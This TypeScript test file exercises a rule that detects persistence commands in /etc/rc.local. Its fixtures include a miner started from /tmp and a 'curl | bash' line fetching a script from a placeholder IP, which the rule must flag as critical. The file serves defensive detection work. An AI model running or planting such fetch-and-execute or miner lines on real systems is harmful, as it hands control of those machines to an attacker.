import initScripts from '../../collect/persistence/sysv-init';
import { testRule } from '../../../test/helpers/rule-tester';
import { collectFrom, installPackage, OLD, RECENT } from '../../../test/helpers/persistence';
import rule from './rc-local-command';

const sysv = (build: Parameters<typeof collectFrom>[0]) => collectFrom(build, [initScripts]).facts;
const DEBIAN_TEMPLATE =
  '#!/bin/sh -e\n#\n# rc.local\n#\n# This script is executed at the end of each multiuser runlevel.\n# By default this script does nothing.\n\nexit 0\n';

testRule(rule, {
  valid: [
    {
      name: 'Debian template: comments and exit 0',
      facts: sysv((r) => r.write('/etc/rc.local', DEBIAN_TEMPLATE, { mode: 0o755, mtime: RECENT })),
    },
    {
      name: 'RHEL stock rc.local, package-owned',
      facts: sysv((r) =>
        installPackage(r, 'systemd', {
          '/etc/rc.d/rc.local': '#!/bin/bash\n# THIS FILE IS ADDED FOR COMPATIBILITY PURPOSES\ntouch /var/lock/subsys/local\n',
        }).symlink('/etc/rc.local', 'rc.d/rc.local'),
      ),
    },
    { name: 'no rc.local at all', facts: sysv(() => {}) },
  ],
  invalid: [
    {
      name: 'old admin tuning line: low',
      facts: sysv((r) =>
        r.write('/etc/rc.local', '#!/bin/sh -e\necho never > /sys/kernel/mm/transparent_hugepage/enabled\nexit 0\n', {
          mode: 0o755,
          mtime: OLD,
        }),
      ),
      expect: [{ severity: 'low', path: '/etc/rc.local', user: 'root', title: /rc\.local:2/ }],
    },
    {
      name: 'miner started from /tmp and a downloader, added this week',
      facts: sysv((r) =>
        r
          .write('/tmp/kdevtmpfsi', 'ELF', { mode: 0o755 })
          .write(
            '/etc/rc.local',
            '#!/bin/sh -e\nnohup /tmp/kdevtmpfsi >/dev/null 2>&1 &\ncurl -fsSL http://203.0.113.5/init.sh | bash\nexit 0\n',
            { mode: 0o755, mtime: RECENT },
          ),
      ),
      expect: [
        { severity: 'critical', path: '/etc/rc.local', evidence: /rc\.local:2: nohup \/tmp\/kdevtmpfsi[\s\S]*known miner/ },
        { severity: 'critical', path: '/etc/rc.local', evidence: /rc\.local:3: curl/ },
      ],
    },
  ],
});
